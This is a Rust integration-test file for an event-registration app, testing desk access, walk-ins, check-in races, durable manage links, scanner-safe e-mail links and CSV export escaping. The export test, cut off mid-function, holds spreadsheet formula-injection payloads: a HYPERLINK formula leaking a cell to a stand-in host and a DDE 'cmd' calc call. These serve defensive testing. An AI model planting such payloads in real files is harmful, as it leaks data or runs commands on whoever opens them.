//! The people at the door: who may open a stop's desk, walk-ins, check-ins that stay,
//! manage links that keep working, links in e-mails that a scanner cannot spend, exports
//! that a spreadsheet cannot run, and reports limited to one's stops.

use serde_json::{Value, json};

use crate::both_backends;
use crate::helpers::*;

/// Opens a link from an e-mail as a person does: the GET shows a page with one button
/// (checked to be one), the button POSTs. Answers the POST.
pub async fn press_link(app: &TestApp, b: &Browser, link: &str) -> reqwest::Response {
    let path = link.trim_start_matches(&app.address).to_owned();
    let (status, page) = b.page(&path).await;
    assert_eq!(status, 200, "GET {path} shows a page with a button");
    let action = attr(&page, &format!("form[action=\"{path}\"]"), "action");
    assert_eq!(
        action.as_deref(),
        Some(path.as_str()),
        "the button posts to the link"
    );
    let csrf = attr(
        &page,
        &format!("form[action=\"{path}\"] input[name=_csrf]"),
        "value",
    )
    .unwrap();
    b.post_form(&path, &[("_csrf", &csrf)]).await
}

async fn task(app: &TestApp, who: &Organizer, stop_id: &str, kind: &str, slots: i64) -> String {
    let t = app
        .post_ok(
            who,
            &format!("/api/v1/stops/{stop_id}/tasks"),
            &json!({"kind": kind, "slots": slots}),
            201,
        )
        .await;
    t["id"].as_str().unwrap().to_owned()
}

async fn claim(app: &TestApp, task_id: &str, name: &str, email: &str) -> (u16, Value) {
    json(
        app.api
            .post(app.url(&format!("/api/v1/tasks/{task_id}/claims")))
            .json(&json!({"name": name, "email": email}))
            .send()
            .await
            .unwrap(),
    )
    .await
}

fn last_link(app: &TestApp, to: &str, fragment: &str) -> String {
    app.mails_to(to)
        .into_iter()
        .rev()
        .find(|m| m.text.contains(fragment))
        .unwrap_or_else(|| panic!("a mail to {to} with {fragment}"))
        .link(fragment)
}

async fn counters_match(app: &TestApp, stop_id: &str) -> bool {
    let id = stop_id.to_owned();
    app.db(move |conn| roadshow::services::registrations::counters_match_rows(conn, &id).unwrap())
        .await
}

async fn registrations(app: &TestApp, who: &Organizer, stop_id: &str, q: &str) -> Value {
    json(
        app.get(who, &format!("/api/v1/stops/{stop_id}/registrations?q={q}"))
            .await,
    )
    .await
    .1
}

/// The manage link of the latest e-mail to an address that carries one.
fn manage_link(app: &TestApp, to: &str) -> String {
    let link = last_link(app, to, "/r/");
    // A "still coming?" link ends in /coming/yes or /coming/no: the page is the part before.
    let path = link.trim_start_matches(&app.address).to_owned();
    path.split("/coming/").next().unwrap().to_owned()
}

both_backends! {
    async fn a_stranger_who_claims_the_desk_task_gets_no_desk_until_an_organizer_gives_access(app: TestApp) {
        let hui = app.organizer("hui@example.org").await;
        let s = app.open_stop(&hui, 100, None, 10).await;
        app.register(&s.stop_id, "Victim Person", "victim@corp.example").await;
        let (_, set) = json(app.post(&hui, &format!("/api/v1/stops/{}/tasks/standard", s.stop_id), &json!({})).await).await;
        let desk = set.as_array().unwrap().iter().find(|t| t["kind"] == "registration_desk").unwrap()["id"].as_str().unwrap().to_owned();
        // The public help page offers the desk task; anyone may claim a slot.
        let (_, help) = app.browser().page(&format!("/stops/{}/help", s.stop_id)).await;
        assert!(select_text(&help, "article h2").iter().any(|t| t == "Registration desk"));
        let stranger = app.browser();
        let csrf_free = stranger.client.post(app.url(&format!("/tasks/{desk}/claim"))).header("origin", &app.address).form(&[("name", "Stranger"), ("email", "stranger@example.net")]).send().await.unwrap();
        assert_eq!(csrf_free.status(), 200);
        let thanks = scraper::Html::parse_document(&csrf_free.text().await.unwrap());
        assert!(select_text(&thanks, "main p").iter().any(|t| t.contains("organizer of this stop gives you access")), "{:?}", select_text(&thanks, "main p"));
        app.drain().await;
        let mail = app.mails_to("stranger@example.net").pop().unwrap();
        assert!(mail.text.contains("they will e-mail you the desk link"), "{}", mail.text);
        assert!(!mail.text.contains("/desk/"), "no desk link in the claim's e-mail");
        assert_eq!(press_link(&app, &stranger, &mail.link("/volunteer/enter/")).await.status(), 303);
        let (status, own) = stranger.page("/volunteer").await;
        assert_eq!(status, 200, "signed in as a volunteer");
        assert!(select_text(&own, "article p").iter().any(|t| t.contains("opens once an organizer")), "{:?}", select_text(&own, "article p"));
        assert!(attr(&own, &format!("a[href=\"/desk/{}\"]", s.stop_id), "href").is_none(), "no desk button");
        // Signed in with the volunteer link: no desk, no attendee.
        for path in [format!("/desk/{}?q=victim", s.stop_id), format!("/desk/{}?q=a", s.stop_id), format!("/desk/{}", s.stop_id)] {
            let res = stranger.get(&path).await;
            assert!(matches!(res.status().as_u16(), 401 | 404), "{path}: {}", res.status());
            let body = res.text().await.unwrap();
            assert!(!body.contains("Victim Person") && !body.contains("victim@corp.example"), "{path}");
        }
        let (_, list) = json(app.get(&hui, &format!("/api/v1/stops/{}/registrations", s.stop_id)).await).await;
        let code = list[0]["code"].as_str().unwrap().to_owned();
        let res = stranger.post_form(&format!("/desk/{}/checkin", s.stop_id), &[("_csrf", "x"), ("code", &code)]).await;
        assert!(matches!(res.status().as_u16(), 401 | 403 | 404), "{}", res.status());
        assert_eq!(app.stats(&hui, &s.stop_id).await["checked_in"], 0);

        // The organizer sees the claimant awaiting desk access and gives it.
        let org = app.signed_in_browser(&hui).await;
        let tasks_page = format!("/manage/stops/{}/tasks", s.stop_id);
        let (_, page) = org.page(&tasks_page).await;
        assert!(select_text(&page, "article li .badge").iter().any(|t| t == "awaiting desk access"), "{:?}", select_text(&page, "article li"));
        let (status, claimed) = json(app.get(&hui, &format!("/api/v1/stops/{}/tasks", s.stop_id)).await).await;
        assert_eq!(status, 200);
        assert_eq!(claimed.as_array().unwrap().iter().find(|t| t["kind"] == "registration_desk").unwrap()["claimed"], 1, "the slot is theirs");
        let give = attr(&page, "form[action$=\"/desk\"]", "action").expect("a give-desk-access button");
        let csrf = attr(&page, "input[name=_csrf]", "value").unwrap();
        assert_eq!(org.post_form(&give, &[("_csrf", &csrf)]).await.status(), 303);
        let (_, page) = org.page(&tasks_page).await;
        assert!(select_text(&page, "article li .badge").iter().any(|t| t == "has desk access"));
        let (_, own) = stranger.page("/volunteer").await;
        assert!(select_text(&own, "article p").iter().any(|t| t.contains("gave you access")));
        app.drain().await;
        let link = last_link(&app, "stranger@example.net", "/desk/enter/");
        assert_eq!(press_link(&app, &stranger, &link).await.status(), 303);
        let (status, found) = stranger.page(&format!("/desk/{}?q=victim", s.stop_id)).await;
        assert_eq!(status, 200);
        assert_eq!(select_text(&found, "li strong"), vec!["Victim Person"]);

        // Taken back: the desk closes at once.
        let undesk = attr(&page, "form[action$=\"/undesk\"]", "action").expect("a take-back button");
        assert_eq!(org.post_form(&undesk, &[("_csrf", &csrf)]).await.status(), 303);
        assert_eq!(stranger.get(&format!("/desk/{}?q=victim", s.stop_id)).await.status(), 404);
    }

    async fn organizers_give_and_take_back_desk_access_through_the_api_too(app: TestApp) {
        let hui = app.organizer("hui@example.org").await;
        let eve = app.organizer("eve@example.org").await;
        let s = app.open_stop(&hui, 100, None, 10).await;
        let desk = task(&app, &hui, &s.stop_id, "registration_desk", 2).await;
        let photos = task(&app, &hui, &s.stop_id, "photos", 2).await;
        let (_, c) = claim(&app, &desk, "Desk Person", "desk@example.org").await;
        let (_, p) = claim(&app, &photos, "Photo Person", "photo@example.org").await;
        let tasks_path = format!("/api/v1/stops/{}/tasks", s.stop_id);
        let desk_claim = |tasks: &Value| tasks.as_array().unwrap().iter().find(|t| t["kind"] == "registration_desk").unwrap()["claims"][0].clone();
        let (_, tasks) = json(app.get(&hui, &tasks_path).await).await;
        assert_eq!(desk_claim(&tasks)["desk_access"], false, "awaiting desk access");
        let path = |id: &Value| format!("/api/v1/claims/{}/desk-access", id.as_str().unwrap());
        assert_eq!(app.post(&eve, &path(&c["id"]), &json!({})).await.status(), 404, "not eve's stop");
        let (status, body) = json(app.post(&hui, &path(&p["id"]), &json!({})).await).await;
        assert_eq!((status, body["error"]["code"].as_str()), (409, Some("not_desk_claim")));
        assert_eq!(app.post(&hui, &path(&c["id"]), &json!({})).await.status(), 204);
        let (_, tasks) = json(app.get(&hui, &tasks_path).await).await;
        assert_eq!(desk_claim(&tasks)["desk_access"], true);
        app.drain().await;
        let link = last_link(&app, "desk@example.org", "/desk/enter/");
        let b = app.browser();
        assert_eq!(press_link(&app, &b, &link).await.status(), 303);
        assert_eq!(b.get(&format!("/desk/{}", s.stop_id)).await.status(), 200);
        let res = app.api.delete(app.url(&path(&c["id"]))).bearer_auth(&hui.token).send().await.unwrap();
        assert_eq!(res.status(), 204);
        assert_eq!(b.get(&format!("/desk/{}", s.stop_id)).await.status(), 404, "closed at once");
        assert_eq!(json(app.get(&hui, &tasks_path).await).await.1.as_array().unwrap().iter().find(|t| t["kind"] == "registration_desk").unwrap()["claimed"], 1, "the slot stays");
    }

    async fn a_walk_in_with_a_cancelled_address_is_refused_and_changes_nothing(app: TestApp) {
        let hui = app.organizer("hui@example.org").await;
        let s = app.open_stop(&hui, 100, None, 1).await;
        let (_, r) = app.register(&s.stop_id, "Att Seven", "att7@example.com").await;
        let cancel = app.api.post(app.url(&format!("/api/v1/registrations/{}/cancel", r["id"].as_str().unwrap()))).json(&json!({"manage_token": r["manage_token"]})).send().await.unwrap();
        assert_eq!(cancel.status(), 200);
        let org = app.signed_in_browser(&hui).await;
        let desk = format!("/desk/{}", s.stop_id);
        let csrf = org.csrf_of(&desk).await;
        let res = org.post_form(&format!("{desk}/walk-in"), &[("_csrf", &csrf), ("name", "HACKED NAME"), ("email", "att7@example.com"), ("affiliation", "evil")]).await;
        assert_eq!(res.status(), 409);
        let page = scraper::Html::parse_document(&res.text().await.unwrap());
        assert!(select_text(&page, ".result").iter().any(|t| t.contains("was cancelled") && t.contains("register again")), "{:?}", select_text(&page, ".result"));
        // In Chinese too.
        let res = org.client.post(app.url(&format!("{desk}/walk-in"))).header("accept-language", "zh-CN").form(&[("_csrf", csrf.as_str()), ("name", "X"), ("email", "att7@example.com")]).send().await.unwrap();
        assert_eq!(res.status(), 409);
        assert!(res.text().await.unwrap().contains("报名已被取消"));
        // The API refuses the same way.
        let (status, body) = json(app.post(&hui, &format!("/api/v1/stops/{}/walk-ins", s.stop_id), &json!({"name": "HACKED NAME", "email": "att7@example.com"})).await).await;
        assert_eq!((status, body["error"]["code"].as_str()), (409, Some("registration_cancelled")), "{body}");
        let list = registrations(&app, &hui, &s.stop_id, "att7").await;
        assert_eq!((list[0]["name"].as_str(), list[0]["affiliation"].as_str(), list[0]["status"].as_str()), (Some("Att Seven"), Some(""), Some("cancelled")));
        assert!(list[0]["checked_in_at"].is_null());
        assert!(counters_match(&app, &s.stop_id).await);
    }

    async fn a_walk_in_with_a_registered_address_checks_that_registration_in_unchanged(app: TestApp) {
        let hui = app.organizer("hui@example.org").await;
        // One seat: the second person waits.
        let s = app.open_stop(&hui, 1, Some(1.0), 1).await;
        app.register(&s.stop_id, "First Person", "first@example.org").await;
        app.register(&s.stop_id, "Waiting Person", "wait@example.org").await;
        for (email, name) in [("first@example.org", "First Person"), ("wait@example.org", "Waiting Person")] {
            let (status, body) = json(app.post(&hui, &format!("/api/v1/stops/{}/walk-ins", s.stop_id), &json!({"name": "Typed At The Door", "email": email, "affiliation": "door"})).await).await;
            assert_eq!(status, 201, "{body}");
            assert_eq!(body["name"], name, "what the person entered stays");
            assert!(body["checked_in_at"].is_string());
            let list = registrations(&app, &hui, &s.stop_id, email.split('@').next().unwrap()).await;
            assert_eq!(list.as_array().unwrap().len(), 1, "no second row");
            assert_eq!((list[0]["name"].as_str(), list[0]["affiliation"].as_str(), list[0]["status"].as_str()), (Some(name), Some(""), Some("confirmed")));
        }
        let stats = app.stats(&hui, &s.stop_id).await;
        assert_eq!((stats["confirmed"].as_i64(), stats["waitlisted"].as_i64(), stats["checked_in"].as_i64()), (Some(2), Some(0), Some(2)));
        assert!(counters_match(&app, &s.stop_id).await);
    }

    async fn a_checked_in_registration_cannot_be_cancelled_by_anyone(app: TestApp) {
        let hui = app.organizer("hui@example.org").await;
        let s = app.open_stop(&hui, 1, Some(1.0), 1).await;
        let (_, r) = app.register(&s.stop_id, "In The Room", "room@example.org").await;
        app.register(&s.stop_id, "Waiting", "waiting@example.org").await;
        let (status, _) = json(app.post(&hui, &format!("/api/v1/stops/{}/checkins", s.stop_id), &json!({"code": r["code"]})).await).await;
        assert_eq!(status, 200);
        let id = r["id"].as_str().unwrap();
        let (status, body) = json(app.api.post(app.url(&format!("/api/v1/registrations/{id}/cancel"))).json(&json!({"manage_token": r["manage_token"]})).send().await.unwrap()).await;
        assert_eq!((status, body["error"]["code"].as_str()), (409, Some("checked_in")), "{body}");
        let (status, body) = json(app.post(&hui, &format!("/api/v1/registrations/{id}/cancel"), &json!({})).await).await;
        assert_eq!((status, body["error"]["code"].as_str()), (409, Some("checked_in")), "{body}");
        // The page no longer offers it, and says why.
        let b = app.browser();
        let manage = format!("/r/{}", r["manage_token"].as_str().unwrap());
        let (_, page) = b.page(&manage).await;
        assert!(attr(&page, &format!("form[action=\"{manage}/cancel\"]"), "action").is_none(), "no cancel button once checked in");
        assert!(select_text(&page, ".notice").iter().any(|t| t.contains("can no longer be cancelled")));
        let csrf = attr(&page, "input[name=_csrf]", "value").unwrap();
        assert_eq!(b.post_form(&format!("{manage}/cancel"), &[("_csrf", &csrf)]).await.status(), 409);
        let stats = app.stats(&hui, &s.stop_id).await;
        assert_eq!((stats["confirmed"].as_i64(), stats["waitlisted"].as_i64(), stats["checked_in"].as_i64(), stats["cancelled"].as_i64()), (Some(1), Some(1), Some(1), Some(0)), "nobody promoted into a used seat");
        assert!(counters_match(&app, &s.stop_id).await);
    }

    async fn cancelling_and_checking_in_at_the_same_instant_never_leave_a_cancelled_row_checked_in(app: TestApp) {
        let hui = app.organizer("hui@example.org").await;
        let s = app.open_stop(&hui, 100, Some(1.0), 1).await;
        let mut people = Vec::new();
        for i in 0..12 {
            people.push(app.register(&s.stop_id, &format!("P{i}"), &format!("p{i}@example.org")).await.1);
        }
        let races = people.iter().flat_map(|r| {
            let cancel = app.api.post(app.url(&format!("/api/v1/registrations/{}/cancel", r["id"].as_str().unwrap()))).json(&json!({"manage_token": r["manage_token"]})).send();
            let check = app.api.post(app.url(&format!("/api/v1/stops/{}/checkins", s.stop_id))).bearer_auth(&hui.token).json(&json!({"code": r["code"]})).send();
            [Box::pin(cancel) as std::pin::Pin<Box<dyn std::future::Future<Output = _>>>, Box::pin(check)]
        });
        for res in futures_util::future::join_all(races).await {
            assert!(matches!(res.unwrap().status().as_u16(), 200 | 409), "only done or refused");
        }
        let (_, list) = json(app.get(&hui, &format!("/api/v1/stops/{}/registrations", s.stop_id)).await).await;
        for r in list.as_array().unwrap() {
            assert!(!(r["status"] == "cancelled" && r["checked_in_at"].is_string()), "{r}");
        }
        assert!(counters_match(&app, &s.stop_id).await);
    }

    async fn the_manage_link_of_the_first_email_keeps_working_through_every_later_email(app: TestApp) {
        let hui = app.organizer("hui@example.org").await;
        // One seat at a show rate of 1: A is confirmed, B waits. Sixty hours ahead: the
        // "still coming?" question is due, the 48 h reminder not yet.
        let s = app.open_stop(&hui, 1, Some(1.0), 10).await;
        let start = chrono::Utc::now() + chrono::Duration::hours(60);
        app.patch(&hui, &format!("/api/v1/stops/{}", s.stop_id), &json!({"starts_at": start.to_rfc3339(), "ends_at": (start + chrono::Duration::hours(3)).to_rfc3339()})).await;
        let (_, a) = app.register(&s.stop_id, "Ann", "ann@example.org").await;
        app.register(&s.stop_id, "Bo", "bo@example.org").await;
        app.drain().await;
        let a_link = manage_link(&app, "ann@example.org");
        let b_link = manage_link(&app, "bo@example.org");
        assert_eq!(a_link, format!("/r/{}", a["manage_token"].as_str().unwrap()), "the API's token is the e-mail's");
        let works = |link: String| { let b = app.browser(); async move { b.get(&link).await.status().as_u16() } };
        assert_eq!(works(a_link.clone()).await, 200);

        // Someone registers Ann's address again: no status in the answer, nothing rotated,
        // and Ann (only Ann) gets her same link once.
        let (status, again) = json(app.api.post(app.url(&format!("/api/v1/stops/{}/registrations", s.stop_id))).json(&json!({"name": "Attacker", "email": "ann@example.org"})).send().await.unwrap()).await;
        assert_eq!(status, 200);
        assert_eq!(again["already_registered"], true);
        for field in ["status", "id", "created_at", "code", "manage_token", "manage_url"] {
            assert!(again.get(field).is_none(), "{field} in {again}");
        }
        let (status, _) = app.register(&s.stop_id, "Attacker", "ann@example.org").await;
        assert_eq!(status, 200);
        app.drain().await;
        let agains: Vec<_> = app.mails_to("ann@example.org").into_iter().filter(|m| m.subject.contains("registered again") || m.text.contains("registered this address again")).collect();
        assert_eq!(agains.len(), 1, "one e-mail per ten minutes, however often the address is typed");
        assert_eq!(agains[0].link("/r/").trim_start_matches(&app.address), a_link, "the same link");
        assert_eq!(works(a_link.clone()).await, 200);
        // The web form says the link was e-mailed (now true) and shows nothing else.
        let res = app.browser().client.post(app.url(&format!("/stops/{}/register", s.stop_id))).header("origin", &app.address).form(&[("name", "X"), ("email", "ann@example.org")]).send().await.unwrap();
        assert_eq!(res.status(), 200);
        assert!(res.text().await.unwrap().contains("We sent the link to your registration"));

        // "Still coming?", to people who registered before it was due (not minutes ago).
        crate::attendee::backdate_registrations(&app, &s.stop_id, 24 * 7).await;
        assert!(roadshow::worker::run_scheduled(&app.state).await.unwrap() >= 1);
        app.drain().await;
        assert_eq!(manage_link(&app, "ann@example.org"), a_link);
        assert_eq!(works(a_link.clone()).await, 200);

        // A bulk message with {manage_link}.
        for segment in ["confirmed", "waitlisted"] {
            let (status, sent) = json(app.post(&hui, &format!("/api/v1/tours/{}/messages", s.tour_id), &json!({"segment": segment, "subject": "News", "body": "Your link: {manage_link}", "preview": false})).await).await;
            assert_eq!(status, 201, "{sent}");
        }
        app.drain().await;
        assert_eq!(manage_link(&app, "ann@example.org"), a_link);
        assert_eq!(manage_link(&app, "bo@example.org"), b_link);
        assert_eq!(works(a_link.clone()).await, 200);

        // Ann cancels: Bo moves up, with the link he already has.
        let b = app.browser();
        let (_, page) = b.page(&a_link).await;
        let csrf = attr(&page, "input[name=_csrf]", "value").unwrap();
        assert_eq!(b.post_form(&format!("{a_link}/cancel"), &[("_csrf", &csrf)]).await.status(), 303);
        app.drain().await;
        let promoted = app.mails_to("bo@example.org").into_iter().rev().find(|m| m.text.contains("/r/")).unwrap();
        assert_eq!(promoted.link("/r/").trim_start_matches(&app.address), b_link);

        // The reminder, two hours before (Bo moved up days ago, not just now).
        crate::attendee::backdate_registrations(&app, &s.stop_id, 24 * 3).await;
        let start = chrono::Utc::now() + chrono::Duration::hours(2);
        app.patch(&hui, &format!("/api/v1/stops/{}", s.stop_id), &json!({"starts_at": start.to_rfc3339(), "ends_at": (start + chrono::Duration::hours(3)).to_rfc3339()})).await;
        assert!(roadshow::worker::run_scheduled(&app.state).await.unwrap() >= 1);
        app.drain().await;
        assert!(app.mails_to("bo@example.org").iter().any(|m| m.subject.starts_with("Reminder")), "a reminder");
        assert_eq!(manage_link(&app, "bo@example.org"), b_link);
        assert_eq!(works(b_link.clone()).await, 200);
        assert_eq!(works(a_link.clone()).await, 200, "the cancelled registration's page is still there");
    }

    async fn a_registration_from_before_derived_links_gets_its_one_link_with_the_next_email(app: TestApp) {
        use diesel::prelude::*;
        use roadshow::db::schema::registrations as r;
        let hui = app.organizer("hui@example.org").await;
        let s = app.open_stop(&hui, 10, None, 10).await;
        let (_, reg) = app.register(&s.stop_id, "Old Timer", "old@example.org").await;
        // As rows made before the upgrade are: version 0, a random token.
        let random = "A".repeat(43);
        let (id, hash) = (reg["id"].as_str().unwrap().to_owned(), roadshow::secrets::token_hash(&random));
        app.db(move |conn| diesel::update(r::table.find(&id)).set((r::manage_link_version.eq(0), r::manage_token_hash.eq(hash))).execute(conn).unwrap()).await;
        let works = |link: String| { let b = app.browser(); async move { b.get(&link).await.status().as_u16() } };
        assert_eq!(works(format!("/r/{random}")).await, 200, "the old link works until an e-mail needs one");
        for _ in 0..2 {
            let (status, _) = json(app.post(&hui, &format!("/api/v1/tours/{}/messages", s.tour_id), &json!({"segment": "confirmed", "subject": "News", "body": "Your link: {manage_link}", "preview": false})).await).await;
            assert_eq!(status, 201);
        }
        app.drain().await;
        let links: Vec<String> = app.mails_to("old@example.org").into_iter().filter(|m| m.subject == "News").map(|m| m.link("/r/")).collect();
        assert_eq!(links.len(), 2);
        assert_eq!(links[0], links[1], "moved to a derived link once, then always the same");
        assert_eq!(works(links[0].trim_start_matches(&app.address).to_owned()).await, 200);
        assert_eq!(works(format!("/r/{random}")).await, 404, "the random one ended, once");
    }

    async fn taking_up_a_cancelled_registration_again_clears_a_stale_check_in(app: TestApp) {
        use diesel::prelude::*;
        use roadshow::db::schema::registrations as r;
        let hui = app.organizer("hui@example.org").await;
        let s = app.open_stop(&hui, 10, Some(1.0), 10).await;
        let (_, reg) = app.register(&s.stop_id, "Came Then Left", "left@example.org").await;
        app.post_ok(&hui, &format!("/api/v1/stops/{}/checkins", s.stop_id), &json!({"code": reg["code"]}), 200).await;
        // A row left by the old rules: cancelled although checked in (counted as both).
        let id = reg["id"].as_str().unwrap().to_owned();
        let stop_id = s.stop_id.clone();
        app.db(move |conn| {
            use roadshow::db::schema::stop_counters as c;
            diesel::update(r::table.find(&id)).set(r::status.eq("cancelled")).execute(conn).unwrap();
            diesel::update(c::table.find(&stop_id)).set((c::confirmed.eq(c::confirmed - 1), c::cancelled.eq(c::cancelled + 1))).execute(conn).unwrap();
        }).await;
        assert!(counters_match(&app, &s.stop_id).await);
        let (status, again) = app.register(&s.stop_id, "Came Then Left", "left@example.org").await;
        assert_eq!(status, 201, "{again}");
        let list = registrations(&app, &hui, &s.stop_id, "left").await;
        assert_eq!(list[0]["status"], "confirmed");
        assert!(list[0]["checked_in_at"].is_null(), "{}", list[0]);
        assert_eq!(app.stats(&hui, &s.stop_id).await["checked_in"], 0);
        assert!(counters_match(&app, &s.stop_id).await);
        // The OpenAPI document names the answer for a known address.
        let (_, doc) = json(app.api.get(app.url("/api/v1/openapi.json")).send().await.unwrap()).await;
        assert!(doc["components"]["schemas"]["AlreadyRegisteredJson"].is_object());
    }

    async fn an_attendee_who_asks_for_a_new_link_gets_one_and_the_old_one_ends(app: TestApp) {
        let hui = app.organizer("hui@example.org").await;
        let s = app.open_stop(&hui, 10, None, 10).await;
        let (_, r) = app.register(&s.stop_id, "Ann", "ann@example.org").await;
        let old = format!("/r/{}", r["manage_token"].as_str().unwrap());
        let b = app.browser();
        let (_, page) = b.page(&old).await;
        let csrf = attr(&page, "input[name=_csrf]", "value").unwrap();
        let res = b.post_form(&format!("{old}/new-link"), &[("_csrf", &csrf)]).await;
        assert_eq!(res.status(), 303);
        let new = res.headers()["location"].to_str().unwrap().to_owned();
        assert_ne!(new, old);
        assert_eq!(b.get(&new).await.status(), 200);
        assert_eq!(b.get(&old).await.status(), 404);
        app.drain().await;
        assert_eq!(manage_link(&app, "ann@example.org"), new, "e-mailed to the address");
    }

    async fn a_link_from_an_email_opened_twice_changes_nothing_and_its_button_works_once(app: TestApp) {
        let hui = app.organizer("hui@example.org").await;
        let s = app.open_stop(&hui, 10, None, 10).await;
        let photos = task(&app, &hui, &s.stop_id, "photos", 2).await;
        claim(&app, &photos, "Vol", "vol@example.org").await;
        app.drain().await;
        let enter = last_link(&app, "vol@example.org", "/volunteer/enter/");
        let path = enter.trim_start_matches(&app.address).to_owned();
        let scanner = app.browser();
        for _ in 0..2 {
            assert_eq!(scanner.get(&path).await.status(), 200, "a page, not a sign-in");
        }
        assert_eq!(scanner.get("/volunteer").await.status(), 303, "the scanner is not signed in");
        let person = app.browser();
        assert_eq!(press_link(&app, &person, &enter).await.status(), 303);
        assert_eq!(person.get("/volunteer").await.status(), 200);
        let csrf = attr(&person.page("/volunteer").await.1, "input[name=_csrf]", "value").unwrap();
        assert_eq!(person.post_form(&path, &[("_csrf", &csrf)]).await.status(), 404, "once");

        // An invitation: opening it takes no slot.
        let reg = app.api.post(app.url(&format!("/api/v1/stops/{}/registrations", s.stop_id))).json(&json!({"name": "Keen", "email": "keen@example.org", "volunteer": true})).send().await.unwrap();
        let reg: Value = reg.json().await.unwrap();
        let host = task(&app, &hui, &s.stop_id, "host", 1).await;
        let org = app.signed_in_browser(&hui).await;
        let csrf = org.csrf_of(&format!("/manage/stops/{}/tasks", s.stop_id)).await;
        org.post_form(&format!("/manage/stops/{}/tasks/invite", s.stop_id), &[("_csrf", &csrf), ("task_id", &host), ("registration_id", reg["id"].as_str().unwrap())]).await;
        app.drain().await;
        let accept = last_link(&app, "keen@example.org", "/volunteer/accept/");
        for _ in 0..2 {
            assert_eq!(scanner.get(accept.trim_start_matches(&app.address)).await.status(), 200);
        }
        let tasks_path = format!("/api/v1/stops/{}/tasks", s.stop_id);
        let host_claimed = |t: Value| t.as_array().unwrap().iter().find(|t| t["kind"] == "host").unwrap()["claimed"].as_i64().unwrap();
        assert_eq!(host_claimed(json(app.get(&hui, &tasks_path).await).await.1), 0, "opening the invitation took no slot");
        assert_eq!(press_link(&app, &app.browser(), &accept).await.status(), 303);
        assert_eq!(host_claimed(json(app.get(&hui, &tasks_path).await).await.1), 1);

        // A desk link too.
        let stop_page = format!("/manage/stops/{}", s.stop_id);
        let csrf = org.csrf_of(&stop_page).await;
        org.post_form(&format!("{stop_page}/desk-helpers"), &[("_csrf", &csrf), ("email", "helper@example.org"), ("name", "Helper")]).await;
        app.drain().await;
        let mail = app.mails_to("helper@example.org").pop().unwrap();
        assert!(mail.text.contains("The link works once, for 3 days: until "), "{}", mail.text);
        let desk = mail.link("/desk/enter/");
        for _ in 0..2 {
            assert_eq!(scanner.get(desk.trim_start_matches(&app.address)).await.status(), 200);
        }
        assert_eq!(scanner.get(&format!("/desk/{}", s.stop_id)).await.status(), 303, "the scanner has no desk");
        let helper = app.browser();
        assert_eq!(press_link(&app, &helper, &desk).await.status(), 303);
        assert_eq!(helper.get(&format!("/desk/{}", s.stop_id)).await.status(), 200);
    }

    async fn desk_links_last_three_days_at_most_and_a_helper_can_ask_for_a_new_one(app: TestApp) {
        let hui = app.organizer("hui@example.org").await;
        // A stop a month away: the link used to last until it ended.
        let s = app.open_stop(&hui, 10, None, 30).await;
        let org = app.signed_in_browser(&hui).await;
        let stop_page = format!("/manage/stops/{}", s.stop_id);
        let csrf = org.csrf_of(&stop_page).await;
        org.post_form(&format!("{stop_page}/desk-helpers"), &[("_csrf", &csrf), ("email", "helper@example.org"), ("name", "Helper")]).await;
        app.drain().await;
        let mail = app.mails_to("helper@example.org").pop().unwrap();
        assert!(mail.text.contains("The link works once, for 3 days: until "), "{}", mail.text);
        let expires: Vec<chrono::NaiveDateTime> = app.db(|conn| {
            use diesel::prelude::*;
            roadshow::db::schema::magic_links::table.filter(roadshow::db::schema::magic_links::purpose.eq("desk")).select(roadshow::db::schema::magic_links::expires_at).load(conn).unwrap()
        }).await;
        assert!(expires.iter().all(|e| *e <= chrono::Utc::now().naive_utc() + chrono::Duration::hours(72)), "{expires:?}");
        // The e-mail says where a new link is; a helper gets one, a stranger nothing.
        let fresh = mail.link("/login");
        let path = fresh.trim_start_matches(&app.address).to_owned();
        assert_eq!(path, format!("/desk/{}/login", s.stop_id));
        let b = app.browser();
        let csrf = b.csrf_of(&path).await;
        for who in ["helper@example.org", "stranger@example.org"] {
            let res = b.post_form(&path, &[("_csrf", &csrf), ("email", who)]).await;
            assert_eq!(res.status(), 200);
            assert!(res.text().await.unwrap().contains("If this address belongs to a helper"), "the same answer for {who}");
        }
        app.drain().await;
        assert_eq!(app.mails_to("helper@example.org").len(), 2);
        assert!(app.mails_to("stranger@example.org").is_empty());
        assert_eq!(press_link(&app, &app.browser(), &app.mails_to("helper@example.org").pop().unwrap().link("/desk/enter/")).await.status(), 303);
    }

    async fn every_export_cell_is_neutralised_against_formulas(app: TestApp) {
        let hui = app.organizer("hui@example.org").await;
        let tour = app.create_tour(&hui, "Tour").await;
        let tour_id = tour["id"].as_str().unwrap();
        let venue = app.create_venue(&hui, "=HYPERLINK(\"http://127.0.0.1:9/?leak=\"&A1,\"click\")", "X", 10).await;
        let start = chrono::Utc::now() + chrono::Duration::days(10);
        let stop = app.post_ok(&hui, &format!("/api/v1/tours/{tour_id}/stops"), &json!({"city": "=cmd|'/C calc'!A0", "starts_at": start.to_rfc3339(), "ends_at": (start + chrono::Duration::hours(3)).to_rfc3339(), "timezone": "Asia/Shanghai", "venue_id": venue["id"], "status": "open"}), 201).await;
        app.patch(&hui, &format!("/api/v1/tours/{tour_id}"), &json!({"status": "published"})).await;
        let stop_id = stop["id"].as_str().unwrap();
        for email in ["+cmd|x!a@example.org", "=1+2@example.com", "-2+3@example.com"] {
            let (status, body) = app.register(stop_id, "-Name", email).await;
            assert_eq!(status, 201, "{email}: {body}");
        }
        let b = app.signed_in_browser(&hui).await;
        let parse = |text: String| -> Vec<Vec<String>> {
            csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes()).records().map(|r| r.unwrap().iter().map(str::to_owned).collect()).collect()
        };
        let risky = |cell: &str| cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err();
        let report = parse(b.get(&format!("/manage/tours/{tour_id}/report.csv")).await.text().await.unwrap());
        assert_eq!(report[1][0], "'=cmd|'/C calc'!A0");
        assert!(report[1][2].starts_with("'=HYPERLINK"), "{:?}", report[1]);
        for cell in report.iter().flatten() {
            assert!(!risky(cell), "report cell {cell:?}");
        }
        for path in [format!("/manage/stops/{stop_id}/registrations.csv")] {
            let rows = parse(b.get(&path).await.text().await.unwrap());
            assert_eq!(rows.len(), 4);
            assert!(rows.iter().any(|r| r[2] == "'+cmd|x!a@example.org"), "{rows:?}");
            for cell in rows.iter().flatten() {
                assert!(!risky(cell), "{path}: {cell:?}");
            }
        }
        let rows = parse(app.get(&hui, &format!("/api/v1/stops/{stop_id}/registrations?format=csv")).await.text().await.unwrap());
